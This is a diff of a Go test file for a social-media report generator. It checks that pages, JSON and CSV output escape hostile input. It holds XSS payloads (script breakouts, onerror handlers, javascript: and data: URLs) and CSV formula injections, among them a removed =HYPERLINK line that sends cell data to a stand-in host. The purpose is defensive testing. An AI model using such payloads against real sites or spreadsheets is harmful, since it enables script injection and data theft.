@@ -4,34 +4,72 @@ import (
 	"bytes"
 	"encoding/csv"
 	"encoding/json"
+	"fmt"
 	"html"
 	"html/template"
 	"regexp"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/socialaudit/socialaudit/analyze"
+	corpus "github.com/socialaudit/socialaudit/internal/hostile"
 	"github.com/socialaudit/socialaudit/report/internal/locale"
 )
 
-// The attacks a hostile export could carry in any text it controls.
+// The attacks a hostile export could carry in any text it controls: the
+// shared corpus (internal/hostile), which e2e puts through a browser too,
+// and quotes, whose escaping the tests look for.
 const (
-	scriptBreak = `</script><script>window.__pwned=1</script>`
-	funcMarker  = `__f__(window.__pwned=2)__f__`
-	quotes      = `"quotes' & <b>`
-	imgOnerror  = `<img src=x onerror=alert(1)>`
-	jsURL       = `javascript:alert(1)`
+	quotes = `"quotes' & <b>`
+	jsURL  = `javascript:window.__pwned=6//`
 )
 
-// hostile is every attack in one string.
-const hostile = scriptBreak + " " + funcMarker + " " + quotes + " " + imgOnerror + " " + jsURL
+// hostile is the attacks of the first version of these tests, which other
+// tests still use (events_test.go).
+const hostile = `</script><script>window.__pwned=1</script> __f__(window.__pwned=2)__f__ ` + quotes +
+	` <img src=x onerror=alert(1)> javascript:alert(1)`
+
+// hostileAll is every attack in one string.
+var hostileAll = corpus.Joined() + " " + quotes
+
+// hostilePermalinks are the permalinks of the top posts: none may become a
+// link that runs or leaves a page through an attribute.
+var hostilePermalinks = []string{`https://example.com/p?q="><script>window.__pwned=1</script>`, jsURL, `data:text/html,<script>window.__pwned=7</script>`,
+	` JaVaScRiPt:window.__pwned=1`, `" onmouseover="window.__pwned=5`}
+
+// hostileNotes is the markdown of --notes with the attacks: raw HTML (left
+// out by goldmark), links and an image with javascript: URLs, the corpus in
+// a code block, where it must show as it is, and the client's hostile name
+// through a placeholder.
+var hostileNotes = "# Summary of {{ .Client }}\n\n" +
+	"<script>window.__pwned=1</script>\n\n<img src=x onerror=window.__pwned=3>\n\n" +
+	"A [link](javascript:window.__pwned=6) and <javascript:window.__pwned=6> " +
+	"and [a data link](data:text/html,<script>window.__pwned=7</script>) inline <b onclick=\"window.__pwned=5\">html</b>.\n\n" +
+	"```\n" + strings.ReplaceAll(strings.ReplaceAll(corpus.Joined(), "{{", "{ {"), "}}", "} }") + "\n```\n"
 
 // hostileFixture puts the attacks into every text field of the fixture
-// that comes from the data or the command line. Codes that analyze itself
-// sets (months, reasons, trend direction and basis) are left alone.
+// that comes from the data or the command line: the corpus in every field,
+// formulas at the start of what data/unanswered.csv writes, the 1 MB text
+// in a post and in a comment, hostile permalinks, event labels and notes.
+// Codes that analyze itself sets (months, reasons, trend direction and
+// basis) are left alone.
 func hostileFixture() (*analyze.Results, Meta) {
+	return fieldFixture(func(tag string) string { return tag + " " + hostileAll }, corpus.Formulas(), corpus.Huge(), hostilePermalinks, hostileNotes)
+}
+
+// plainFixture is hostileFixture with harmless text of the same shape, to
+// compare the markup of the pages with.
+func plainFixture() (*analyze.Results, Meta) {
+	return fieldFixture(func(tag string) string { return tag + " plain" }, []string{"formula"}, "huge plain",
+		[]string{"https://example.com/1", "plain"}, "# Summary of {{ .Client }}\n\n<p>plain</p>\n\nplain\n\n"+
+			"A [link](https://example.com/a) and <https://example.com/b> "+
+			"and [a data link](https://example.com/c) inline <b>html</b>.\n\n```\nplain\n```\n")
+}
+
+func fieldFixture(h func(tag string) string, formulas []string, huge string, permalinks []string, notes string) (*analyze.Results, Meta) {
 	res := fixture()
-	h := func(tag string) string { return tag + " " + hostile }
+	f := func(i int, tag string) string { return formulas[i%len(formulas)] + " " + h(tag) }
 	for i := range res.Platforms {
 		res.Platforms[i] = h("platform")
 	}
@@ -46,14 +84,19 @@ func hostileFixture() (*analyze.Results, Meta) {
 	}
 	for i := range res.NegativeFeedback.TopPosts {
 		p := &res.NegativeFeedback.TopPosts[i].Post
-		p.Platform, p.Account, p.ID, p.Type, p.Text = h("platform"), h("account"), h("id"), h("type"), h("text")
-		p.Permalink = jsURL
+		p.Platform, p.Account, p.ID, p.Type, p.Text = h("platform"), h("account"), f(i, "id"), h("type"), h("text")
+		if i == 0 {
+			p.Text = huge
+		}
+		p.Permalink = permalinks[i%len(permalinks)]
 	}
 	for i := range res.Open {
 		c := &res.Open[i].Comment
-		c.Platform, c.Account, c.ID, c.PostID, c.ParentID = h("platform"), h("account"), h("id"), h("post"), h("parent")
-		c.AuthorID, c.AuthorName = h("author"), "="+hostile
-		c.Text = "=HYPERLINK(\"http://evil.example/?\"&A1) " + hostile
+		c.Platform, c.Account, c.ID, c.PostID, c.ParentID = h("platform"), h("account"), f(i, "id"), f(i+1, "post"), f(i+2, "parent")
+		c.AuthorID, c.AuthorName, c.Text = f(i+3, "author"), f(i+4, "name"), f(i+5, "text")
+		if i == 0 {
+			c.Text = huge
+		}
 	}
 	for i := range res.Inputs {
 		in := &res.Inputs[i]
@@ -64,32 +107,26 @@ func hostileFixture() (*analyze.Results, Meta) {
 			r := &in.Rejections[j]
 			r.File, r.Column, r.Reason = h("file"), h("column"), h("reason")
 		}
+		for j := range in.MergedInto {
+			in.MergedInto[j].File = h("merged")
+		}
 	}
+	res.Inputs[1].Format = "map:" + h("mapping")
 	meta := fixtureMeta()
 	meta.Client = h("client")
-	meta.Brand = []string{h("brand"), "@" + hostile}
+	meta.Brand = []string{h("brand"), "@" + h("handle")}
 	meta.Version = h("version")
 	meta.AgencyName, meta.Contact = h("agency"), h("contact")
+	meta.Events = []Event{
+		{Date: time.Date(2024, 2, 14, 0, 0, 0, 0, time.UTC), Label: h("event")},
+		{Date: time.Date(2024, 3, 1, 0, 0, 0, 0, time.UTC), End: time.Date(2024, 3, 5, 0, 0, 0, 0, time.UTC), Label: h("range")},
+	}
+	n, err := ParseNotes("notes.md", []byte(notes))
+	if err != nil {
+		panic(err)
+	}
+	meta.Notes = n
 	return res, meta
-}
-
-// scriptTags is how many <script elements each page has on the fixture:
-// report.js, and the ECharts library on pages that draw a chart. All load
-// a file; none is inline.
-var scriptTags = map[string]int{
-	"index.html":          1,
-	"responsiveness.html": 2,
-	"conversation.html":   2,
-	"feedback.html":       2,
-	"methodology.html":    1,
-	"data.html":           1,
-}
-
-// chartsDrawn is how many charts each page draws on the fixture.
-var chartsDrawn = map[string]int{
-	"responsiveness.html": 4,
-	"conversation.html":   2,
-	"feedback.html":       3,
 }
 
 func TestHostileText(t *testing.T) {
@@ -114,8 +151,13 @@ func testHostileText(t *testing.T, lang string) {
 	if err != nil {
 		t.Fatalf("Build: %v", err)
 	}
-	options := chartOptions(t, res, meta)
-	plain := buildFixtureLang(t, lang)
+	options, perPage := chartOptions(t, res, meta)
+	pres, pmeta := plainFixture()
+	pmeta.Lang = lang
+	plain, err := Build(pres, pmeta)
+	if err != nil {
+		t.Fatalf("Build: %v", err)
+	}
 	for _, f := range site.Files {
 		if strings.HasPrefix(f.Path, "assets/") {
 			continue
@@ -130,16 +172,20 @@ func testHostileText(t *testing.T, lang string) {
 		if f.Path == "data/unanswered.csv" {
 			continue // plain data, not markup: checked in TestHostileCSV
 		}
-		for _, raw := range []string{scriptBreak, quotes, imgOnerror, "<script>", "<img", "onerror=alert(1)>"} {
-			if strings.Contains(s, raw) {
-				t.Errorf("%s contains %q unescaped", f.Path, raw)
+		for _, raw := range append(markupEntries(), "<script>", "<img", "<svg", "onerror=window.__pwned=3>", "<style>", "<!--") {
+			if ext == ".json" && !strings.ContainsAny(raw, "<>&") {
+				continue // quotes are escaped as \" in JSON
+			}
+			if got, want := strings.Count(s, raw), strings.Count(string(plain.File(f.Path).Data), raw); got > want {
+				t.Errorf("%s contains %q unescaped: %d times, %d without hostile text", f.Path, raw, got, want)
 			}
 		}
 		if !strings.HasSuffix(f.Path, ".html") {
 			continue
 		}
 		lower := strings.ToLower(s)
-		if got, want := strings.Count(lower, "<script"), scriptTags[f.Path]; got != want {
+		// report.js, and ECharts where the page draws a chart.
+		if got, want := strings.Count(lower, "<script"), 1+min(perPage[f.Path], 1); got != want {
 			t.Errorf("%s: %d <script tags, want %d", f.Path, got, want)
 		}
 		if got, want := strings.Count(lower, "<script"), strings.Count(lower, `<script src="assets/echarts/echarts.min.js"></script>`)+strings.Count(lower, `<script src="assets/report.js"></script>`); got != want {
@@ -151,11 +197,18 @@ func testHostileText(t *testing.T, lang string) {
 		if strings.Contains(lower, `href="javascript`) {
 			t.Errorf("%s: a javascript: URL became a link", f.Path)
 		}
-		checkOptions(t, f.Path, s, options)
+		checkOptions(t, f.Path, s, options, perPage[f.Path])
 		checkScripts(t, f.Path, s)
+		checkLinks(t, f.Path, s)
+		checkSameMarkup(t, f.Path, s, string(plain.File(f.Path).Data))
+		checkShownAsText(t, f.Path, s, meta)
 	}
-	if !strings.Contains(string(site.File("feedback.html").Data), `href="#ZgotmplZ"`) {
-		t.Error("feedback.html: the javascript: permalink was not replaced by html/template's #ZgotmplZ")
+	// The hostile permalinks are no links, not even html/template's dead
+	// "#ZgotmplZ"; the plain ones are.
+	open := ">" + escapeIn(t, "{{.}}", l10n(t, lang, "word.open-link")) + "</a>"
+	if fb := string(site.File("feedback.html").Data); strings.Contains(fb, "ZgotmplZ") || strings.Count(fb, open) != 1 ||
+		!strings.Contains(fb, `<a href="https://example.com/p?q=%22%3e%3cscript%3ewindow.__pwned=1%3c/script%3e" rel="noopener noreferrer nofollow">`) {
+		t.Errorf("feedback.html: the permalinks are not one web link (escaped) and no other: %d links", strings.Count(fb, open))
 	}
 
 	// metrics.json keeps every string exactly, escaped only by JSON.
@@ -169,8 +222,9 @@ func testHostileText(t *testing.T, lang string) {
 	}
 }
 
-// chartOptions returns the option JSON of every chart of the view, by id.
-func chartOptions(t *testing.T, res *analyze.Results, meta Meta) map[string]string {
+// chartOptions returns the option JSON of every chart of the view, by id,
+// and how many charts with an option each page file has.
+func chartOptions(t *testing.T, res *analyze.Results, meta Meta) (map[string]string, map[string]int) {
 	t.Helper()
 	l, err := locale.For(meta.Lang)
 	if err != nil {
@@ -180,17 +234,18 @@ func chartOptions(t *testing.T, res *analyze.Results, meta Meta) map[string]stri
 	if err != nil {
 		t.Fatal(err)
 	}
-	out := map[string]string{}
+	out, perPage := map[string]string{}, map[string]int{}
 	for _, p := range pages {
 		for _, s := range p.Sections {
 			for _, c := range s.Charts {
 				if c.Option != "" {
 					out[c.ID] = c.Option
+					perPage[p.File]++
 				}
 			}
 		}
 	}
-	return out
+	return out, perPage
 }
 
 // dataOption matches a chart canvas and its option attribute; html/template
@@ -200,10 +255,10 @@ var dataOption = regexp.MustCompile(`<div id="([A-Za-z0-9_]+)" class="chart-canv
 // checkOptions checks every chart of a page: its data-option attribute,
 // once the browser decodes it, is exactly the JSON that json.Marshal made,
 // valid, with every "__f__" inside a JSON string, where it is inert.
-func checkOptions(t *testing.T, name, page string, options map[string]string) {
+func checkOptions(t *testing.T, name, page string, options map[string]string, charts int) {
 	t.Helper()
 	matches := dataOption.FindAllStringSubmatch(page, -1)
-	if got, want := len(matches), chartsDrawn[name]; got != want {
+	if got, want := len(matches), charts; got != want {
 		t.Errorf("%s: %d chart canvases with an option, want %d", name, got, want)
 	}
 	if got := strings.Count(page, "data-option="); got != len(matches) {
@@ -315,6 +370,10 @@ func TestCountOutsideStrings(t *testing.T) {
 	}
 }
 
+// TestHostileCSV checks data/unanswered.csv with the corpus in every
+// column that comes from the data: every cell reads back as it was given,
+// with a leading apostrophe exactly when a spreadsheet would take it for a
+// formula (= + - @, tab, carriage return), whatever the column.
 func TestHostileCSV(t *testing.T) {
 	res, meta := hostileFixture()
 	site, err := Build(res, meta)
@@ -328,15 +387,52 @@ func TestHostileCSV(t *testing.T) {
 	if len(rows) != 1+len(res.Open) {
 		t.Fatalf("%d rows, want %d", len(rows), 1+len(res.Open))
 	}
-	for _, row := range rows[1:] {
-		if got, want := row[8], "'="+hostile; got != want {
-			t.Errorf("author_name = %q, want %q", got, want)
+	guarded, formulas := 0, map[string]bool{}
+	for _, f := range corpus.Formulas() {
+		formulas[f[:1]] = true
+	}
+	for i, row := range rows[1:] {
+		c := res.Open[i].Comment
+		for col, given := range map[int]string{1: c.Platform, 2: c.Account, 3: c.ID, 7: c.AuthorID, 8: c.AuthorName, 9: c.PostID, 10: c.ParentID, 11: c.Text} {
+			want := given
+			if formulas[given[:1]] {
+				want = "'" + given
+				guarded++
+			}
+			if row[col] != want {
+				t.Errorf("row %d, %s = %.80q, want %.80q", i+1, unansweredHeader[col], row[col], want)
+			}
 		}
-		if !strings.HasPrefix(row[11], `'=HYPERLINK(`) {
-			t.Errorf("text = %q, want a leading apostrophe", row[11])
-		}
-		if row[1] != "platform "+hostile {
-			t.Errorf("platform = %q, changed although harmless in a spreadsheet", row[1])
+	}
+	// Every column of the comments that a stranger writes started with a
+	// formula in some row; the platform and account never did.
+	if want := len(res.Open)*6 - 1; guarded != want { // the first comment's text is the 1 MB one
+		t.Errorf("%d cells guarded, want %d", guarded, want)
+	}
+	if text := rows[1][11]; len(text) != corpus.HugeSize || text != corpus.Huge() {
+		t.Errorf("the 1 MB text: %d bytes in the file", len(text))
+	}
+	// Formulas of the corpus, each alone as an author name: every one is
+	// guarded.
+	res = fixture()
+	for i, f := range corpus.Formulas() {
+		res.Open = append(res.Open, res.Open[0])
+		res.Open[len(res.Open)-1].Comment.AuthorName = f
+		res.Open[len(res.Open)-1].Comment.Text = f
+		_ = i
+	}
+	b, err := unansweredCSV(res)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rows, err = csv.NewReader(bytes.NewReader(b)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, f := range corpus.Formulas() {
+		row := rows[len(rows)-len(corpus.Formulas())+i]
+		if row[8] != "'"+f || row[11] != "'"+f {
+			t.Errorf("formula %q written as %q and %q", f, row[8], row[11])
 		}
 	}
 }
@@ -364,7 +460,7 @@ func TestNeutraliseFormula(t *testing.T) {
 // <script> loads a file, and no element has an on* handler attribute (the
 // hostile text is escaped, so "onerror=" can only come from a template) or
 // an inline style. checkOptions checks the chart options themselves.
-func checkScripts(t *testing.T, name, page string) {
+func checkScripts(t reporter, name, page string) {
 	t.Helper()
 	for rest := page; ; {
 		i := strings.Index(rest, "<script")
@@ -418,4 +514,210 @@ func startTags(page string) []string {
 			}
 		}
 	}
+}
+
+// reporter is what the page checks need of a *testing.T, so that
+// TestHostileChecksCatch can run them on broken pages and count.
+type reporter interface {
+	Helper()
+	Errorf(format string, args ...any)
+}
+
+// recorder counts the errors of the checks it is given to.
+type recorder struct{ errors []string }
+
+func (r *recorder) Helper() {}
+func (r *recorder) Errorf(format string, args ...any) {
+	r.errors = append(r.errors, fmt.Sprintf(format, args...))
+}
+
+// TestHostileChecksCatch breaks the hostile index page as a template bug
+// would and checks that each page check catches its fault: a check that
+// cannot fail would prove nothing.
+func TestHostileChecksCatch(t *testing.T) {
+	res, meta := hostileFixture()
+	site, err := Build(res, meta)
+	if err != nil {
+		t.Fatal(err)
+	}
+	pres, pmeta := plainFixture()
+	plain, err := Build(pres, pmeta)
+	if err != nil {
+		t.Fatal(err)
+	}
+	page, want := string(site.File("index.html").Data), string(plain.File("index.html").Data)
+	esc := func(s string) string {
+		return escapeIn(t, "<p>{{.}}</p>", s)[3 : len(escapeIn(t, "<p>{{.}}</p>", s))-4]
+	}
+	img := corpus.Corpus()[2].Text // "><img src=x onerror=...>
+	for _, c := range []struct {
+		name   string
+		broken string
+		check  func(reporter, string)
+	}{
+		{"unescaped", strings.Replace(page, esc(img), img, 1), func(r reporter, p string) { checkSameMarkup(r, "index.html", p, want) }},
+		{"escaped twice", strings.ReplaceAll(page, esc(meta.Contact), esc(esc(meta.Contact))), func(r reporter, p string) { checkShownAsText(r, "index.html", p, meta) }},
+		{"cut", strings.ReplaceAll(page, esc(meta.AgencyName), esc(meta.AgencyName[:50])), func(r reporter, p string) { checkShownAsText(r, "index.html", p, meta) }},
+		{"javascript link", strings.Replace(page, `<a href=""`, `<a href="javascript:window.__pwned=6"`, 1), func(r reporter, p string) { checkLinks(r, "index.html", p) }},
+		{"handler", strings.Replace(page, "<h2", `<h2 onclick="x()"`, 1), func(r reporter, p string) { checkScripts(r, "index.html", p) }},
+		{"inline script", strings.Replace(page, "<h2", `<script>x()</script><h2`, 1), func(r reporter, p string) { checkScripts(r, "index.html", p) }},
+	} {
+		var ok, bad recorder
+		c.check(&ok, page)
+		c.check(&bad, c.broken)
+		if c.broken == page {
+			t.Errorf("%s: the mutation changed nothing", c.name)
+		}
+		if len(ok.errors) != 0 || len(bad.errors) == 0 {
+			t.Errorf("%s: %d errors on the page, %d on the broken page, want 0 and some: %.300q", c.name, len(ok.errors), len(bad.errors), bad.errors)
+		} else {
+			t.Logf("%s: caught: %.200s", c.name, bad.errors[0])
+		}
+	}
+}
+
+// markupEntries are the texts of the corpus that hold a character with a
+// meaning in markup: none may appear as it is in a page or in metrics.json.
+func markupEntries() []string {
+	var out []string
+	for _, e := range corpus.Corpus() {
+		if strings.ContainsAny(e.Text, "<>\"'&") {
+			out = append(out, e.Text)
+		}
+	}
+	return append(out, quotes)
+}
+
+// checkLinks checks every href and src of a page: each is one of ours (a
+// page, an anchor, an asset, a data file, a data: URL we built), an http(s)
+// permalink; not even the dead #ZgotmplZ that html/template makes of a URL
+// it refuses.
+func checkLinks(t reporter, name, page string) {
+	t.Helper()
+	for _, attr := range []string{"href", "src", "action", "formaction", "xlink:href"} {
+		for _, v := range attrValues(page, attr) {
+			low := strings.ToLower(strings.TrimSpace(v))
+			switch {
+			case strings.HasPrefix(low, "https://"), strings.HasPrefix(low, "http://"):
+			case strings.HasPrefix(low, "data:") && attr == "src" && strings.HasPrefix(low, "data:image/"):
+			case strings.HasPrefix(low, "data:") && (strings.HasPrefix(low, "data:application/json;base64,") ||
+				strings.HasPrefix(low, "data:text/csv;charset=utf-8;base64,") || strings.HasPrefix(low, "data:text/plain;charset=utf-8;base64,")):
+			case strings.Contains(low, ":"), strings.Contains(v, "ZgotmplZ"):
+				t.Errorf("%s: %s=%q: a URL with a scheme that is not ours", name, attr, v)
+			}
+		}
+	}
+}
+
+// checkSameMarkup checks that hostile text added no element and no
+// attribute: the page has the same start tags, with the same attribute
+// names, in the same order, as the page built from harmless text.
+func checkSameMarkup(t reporter, name, page, plain string) {
+	t.Helper()
+	shape := func(p string) []string {
+		var out []string
+		for _, tag := range startTags(p) {
+			end := strings.IndexAny(tag, " \n>")
+			s := tag[:end]
+			for _, a := range attributes(tag) {
+				s += " " + a.Name
+			}
+			out = append(out, s)
+		}
+		return out
+	}
+	got, want := shape(page), shape(plain)
+	for i := 0; i < min(len(got), len(want)); i++ {
+		if got[i] != want[i] {
+			t.Errorf("%s: tag %d is %q with hostile text, %q without", name, i, got[i], want[i])
+			return
+		}
+	}
+	if len(got) != len(want) {
+		t.Errorf("%s: %d start tags with hostile text, %d without", name, len(got), len(want))
+	}
+}
+
+// pageText is what a browser shows of page as text: the markup without its
+// tags, comments, scripts and styles, with the character references decoded.
+func pageText(page string) string {
+	var b strings.Builder
+	rest := page
+	for {
+		i := strings.IndexByte(rest, '<')
+		if i < 0 {
+			b.WriteString(rest)
+			break
+		}
+		b.WriteString(rest[:i])
+		rest = rest[i:]
+		skip := ">"
+		switch {
+		case strings.HasPrefix(rest, "<!--"):
+			skip = "-->"
+		case strings.HasPrefix(rest, "<script"):
+			skip = "</script>"
+		case strings.HasPrefix(rest, "<style"):
+			skip = "</style>"
+		}
+		j := strings.Index(rest, skip)
+		if j < 0 {
+			break
+		}
+		rest = rest[j+len(skip):]
+	}
+	return html.UnescapeString(b.String())
+}
+
+// checkShownAsText checks that the fields that every page or one page
+// shows whole are in its text, exactly as given: not escaped twice, cut,
+// stripped or reordered.
+func checkShownAsText(t reporter, name, page string, meta Meta) {
+	t.Helper()
+	text := pageText(page)
+	want := []string{meta.Client, meta.AgencyName, meta.Contact}
+	switch name {
+	case "index.html", SingleFileName:
+		want = append(want, meta.Events[0].Label, meta.Events[1].Label)
+		for _, e := range corpus.Corpus() {
+			// The notes' code block shows the corpus as written
+			// ({{ is written "{ {" there, the notes' placeholders being
+			// template actions).
+			want = append(want, strings.ReplaceAll(strings.ReplaceAll(e.Text, "{{", "{ {"), "}}", "} }"))
+		}
+	}
+	if name == "data.html" || name == SingleFileName {
+		want = append(want, "file "+hostileAll, "reason "+hostileAll, "column "+hostileAll)
+	}
+	for _, w := range want {
+		if !strings.Contains(text, w) {
+			t.Errorf("%s: the text of the page does not show %.80q whole", name, w)
+		}
+	}
+	// The 1 MB text, where a page shows it (the top posts' table cuts a
+	// post's text at 100 characters), is shown cut.
+	if strings.Contains(text, corpus.Huge()[:2000]) {
+		t.Errorf("%s: the 1 MB text is shown beyond its first 2,000 bytes", name)
+	}
+}
+
+// escapeIn executes tmpl (html/template) with s, as the report's templates
+// would print s there.
+func escapeIn(t *testing.T, tmpl, s string) string {
+	t.Helper()
+	var b strings.Builder
+	if err := template.Must(template.New("").Parse(tmpl)).Execute(&b, s); err != nil {
+		t.Fatal(err)
+	}
+	return b.String()
+}
+
+// l10n is the catalogue's text of key in lang.
+func l10n(t *testing.T, lang, key string) string {
+	t.Helper()
+	l, err := locale.For(lang)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return l.T(key)
 }
